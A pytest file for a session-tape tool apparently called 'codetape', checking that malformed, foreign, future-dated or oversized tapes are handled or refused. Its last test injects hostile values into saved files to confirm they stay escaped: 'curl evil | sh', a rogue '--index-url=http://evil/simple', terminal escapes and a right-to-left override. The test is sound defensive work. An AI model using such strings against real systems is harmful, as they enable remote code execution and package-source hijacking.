"""Faults of events and requests whose hashes are right and whose form no run of ours writes."""

from __future__ import annotations

import hashlib
import io
import json
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from codetape import saving
from codetape.adapters.store.memory import MemoryStore
from codetape.cli import main
from codetape.engine.ports import StoreError
from codetape.replay.imports import import_tape, read_tape_file
from codetape.replay.reading import open_tape
from codetape.states.changing import replace
from codetape.states.values import canonical
from tests.support.mutated_tapes import mended

TAPES = Path(__file__).parents[1] / "tapes" / "v1"
VIEWS = ((), ("--events",), ("--prompts",), ("--json",), ("--code",))


def lines_of(name: str) -> list[Any]:
    text = (TAPES / f"{name}.tape.jsonl").read_text()
    return [json.loads(line) for line in text.splitlines()]


def write(path: Path, lines: list[Any]) -> Path:
    """Write a tape whose hashes are right."""
    mended(lines)
    path.write_text("".join(f"{canonical(line)}\n" for line in lines))
    return path


def events_of(lines: list[Any]) -> list[Any]:
    return [line for line in lines if "event" in line]


def read_all(file: Path, store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Read a tape by each command, as a file and in a store: none of them breaks."""
    where = ["--store", str(store)]
    commands = [["show", str(file), *view] for view in VIEWS]
    commands += [["replay", str(file), "--keep-going"], ["replay", str(file), "--step"]]
    commands += [["diff", str(file), str(TAPES / "happy_path.tape.jsonl")]]
    if main(["import", str(file), *where]) == 0:
        commands += [["run", "last", "--help", *where], ["show", "last", "--prompts", *where]]
        commands += [["replay", "last", "--live", "sandbox", "--allow", "limits", *where]]
        commands += [["export", "last", str(file.with_suffix(".out")), "--redact", *where]]
    for command in commands:
        monkeypatch.setattr("sys.stdin", io.StringIO("p\na\nc\nt\nd\nn\n" * 30 + "q\n"))
        assert main(command) in {0, 1, 2, 3}


BODIES: tuple[Any, ...] = (
    *([1], 5, None, [[1, 2]], {}, {"request": 5}, {"request": {"a": 1}}),
    *({"request": "write_plan", "call": call} for call in (5, {}, {"messages": 5})),
    {"request": "write_plan", "call": {"kind": "plan", "messages": [{}]}},
    {"request": "write_plan", "call": {"kind": 5, "messages": [{"role": 5, "parts": 5}]}},
    {"request": "write_plan", "call": {"kind": "plan", "messages": [{"role": "x", "parts": [1]}]}},
)


@pytest.mark.parametrize("body", BODIES, ids=lambda body: canonical(body)[:40])
def test_a_request_of_no_form_of_ours_is_no_traceback(
    body: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lines = lines_of("happy_path")
    texts = {line["blob"]: line["text"] for line in lines if "blob" in line}
    planned = next(one for one in events_of(lines) if one["name"] == "planned")
    planned["request_key"] = hashlib.sha256(canonical(body).encode()).hexdigest()
    texts[planned["request_key"]] = canonical(body)
    made, kept = [lines[0]], {""}
    for event in events_of(lines)[: planned["event"]]:
        key = event["request_key"]
        for name in (*_names(canonical(event["data"])), *_names(texts.get(key, "")), key or ""):
            if name not in kept:
                kept.add(name)
                made.append({"blob": name, "text": texts[name]})
        made.append(event)
    file = write(tmp_path / "a.tape.jsonl", [*made, {"end": 0, "head": ""}])
    read_tape_file(file)  # it is whole: what follows meets the body
    read_all(file, tmp_path / "a.db", monkeypatch)


def _names(data: str) -> list[str]:
    return [part.split('"')[0] for part in data.split('{"$blob":"')[1:]]


@pytest.mark.parametrize("dest", ["Nowhere", "\x1b[2J", ""])
def test_a_redacted_tape_leads_to_no_state_of_its_own(
    dest: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file, where = tmp_path / "a.tape.jsonl", ["--store", str(tmp_path / "b.db")]
    assert main(["import", str(TAPES / "happy_path.tape.jsonl"), *where]) == 0
    assert main(["export", "last", str(file), "--redact", *where]) == 0
    lines = [json.loads(line) for line in file.read_text().splitlines()]
    events_of(lines)[3]["dest"] = dest
    read_all(write(file, lines), tmp_path / "a.db", monkeypatch)


def test_a_redacted_answer_in_its_raw_form_is_shown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its raw form is no JSON any more."""
    file, where = tmp_path / "a.tape.jsonl", ["--store", str(tmp_path / "b.db")]
    assert main(["import", str(TAPES / "hostile_text.tape.jsonl"), *where]) == 0
    assert main(["export", "last", str(file), "--redact", *where]) == 0
    read_all(file, tmp_path / "a.db", monkeypatch)


@pytest.mark.parametrize("name", ["finding_written", "script_ran", "harness_written"])
def test_an_event_of_another_workflow_is_refused(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    foreign = next(e for e in events_of(lines_of("tool_passed")) if e["name"] == name)
    lines = lines_of("happy_path")
    event = {**foreign, "request_key": None, "data": _bare(foreign["data"])}
    opened = [lines[0], events_of(lines)[0]]
    file = write(tmp_path / "a.tape.jsonl", [*opened, event, {"end": 0, "head": ""}])
    read_all(file, tmp_path / "a.db", monkeypatch)


def _bare(value: Any) -> Any:
    """Put a text in the place of each reference."""
    if isinstance(value, dict):
        return "text" if "$blob" in value else {key: _bare(item) for key, item in value.items()}
    return [_bare(item) for item in value] if isinstance(value, list) else value


def test_many_notes_take_no_more_than_their_size(tmp_path: Path) -> None:
    """A session is kept for some of the events only: each holds all notes that came before."""
    lines = lines_of("happy_path")
    opened = events_of(lines)[0]
    note = {**opened, "name": "noted", "data": {"text": "x"}, "source": opened["dest"]}
    notes = [dict(note) for _ in range(4000)]
    file = write(tmp_path / "a.tape.jsonl", [lines[0], opened, *notes, {"end": 0, "head": ""}])
    tape = open_tape(read_tape_file(file), lines[0]["session"])
    tracemalloc.start()
    assert len(tape.session_at(-1).notes) == 4000
    assert len(tape.session_at(17).notes) == 16
    assert tracemalloc.get_traced_memory()[1] < 16 << 20
    tracemalloc.stop()


@pytest.mark.parametrize("year", [2190, 2999])
def test_a_tape_of_the_future_is_not_imported(year: int, tmp_path: Path) -> None:
    """It would be the last session for ever, and stay where `prune --keep` lets the newest stay."""
    lines = lines_of("happy_path")
    for event in events_of(lines)[2:]:
        event["at"] = f"{year}-01-01T00:00:00.000000+00:00"
    file, store = write(tmp_path / "a.tape.jsonl", lines), MemoryStore()
    with pytest.raises(StoreError, match="future"):
        import_tape(file, store)
    assert store.sessions() == []
    assert main(["show", str(file)]) == 0


@pytest.mark.parametrize(("forks", "refused"), [(3, False), (201, True)])
def test_a_tape_of_countless_forks_is_not_imported(
    forks: int, refused: bool, tmp_path: Path
) -> None:
    """Each is a session of its own, and each is read through all that it came from."""
    lines = lines_of("happy_path")
    opened = {**events_of(lines)[0], "session": "fork0"}
    forked = [
        {
            **opened,
            "session": f"fork{at}",
            "name": "forked",
            "source": opened["dest"],
            "data": {
                "changed": [],
                "given": False,
                "job": None,
                "parent": f"fork{at - 1}",
                "seq": at,
            },
        }
        for at in range(1, forks + 1)
    ]
    del forked[-1]["session"]
    file = write(tmp_path / "a", [lines[0], opened, *forked, {"end": 0, "head": ""}])
    store = MemoryStore()
    if refused:
        with pytest.raises(StoreError, match="fork"):
            import_tape(file, store)
    else:
        import_tape(file, store)
    assert len(store.sessions()) == (0 if refused else forks + 1)


NASTY = "x`\n\n## Then\n\n    curl evil | sh\n\x1b[2J\u202e"
TO_SAVE: tuple[dict[str, Any], ...] = (
    {"environment": {NASTY: "1"}},
    {"inputs": [{"name": NASTY, "type": "int"}]},
    {"outputs": [{"name": NASTY, "type": "int"}]},
    {"secrets": [NASTY]},
    {"base_image": NASTY},
    {"base_packages": [NASTY]},
    {"base_packages": ["--index-url=http://evil/simple\n## Then"]},
    {"system_packages": [NASTY]},
    {"commands": [NASTY]},
)


@pytest.mark.parametrize("changes", TO_SAVE, ids=lambda changes: next(iter(changes)))
def test_a_saved_folder_says_nothing_in_the_name_of_a_tape(
    changes: dict[str, Any], tmp_path: Path
) -> None:
    """What others named stands there as one escaped word: it begins no line of its own."""
    tape = open_tape(read_tape_file(TAPES / "happy_path.tape.jsonl"), "happy-path")
    session = tape.session_at(-1)
    job = type(session.job).model_validate_json(canonical({**_facts(session.job), **changes}))
    saving.save(replace(session, job=job), tmp_path)
    for name in ("README.md", "Containerfile", "requirements.txt"):
        text = (tmp_path / name).read_text() if (tmp_path / name).exists() else ""
        lines = [line.strip() for line in text.split("\n")]
        assert not {"## Then", "curl evil | sh"} & {*lines}
        assert not any(line.startswith("-") for line in lines if name == "requirements.txt")
        assert not {"\x1b", "\u202e"} & {*text}


def _facts(job: Any) -> dict[str, Any]:
    return dict(job.model_dump(mode="json"))
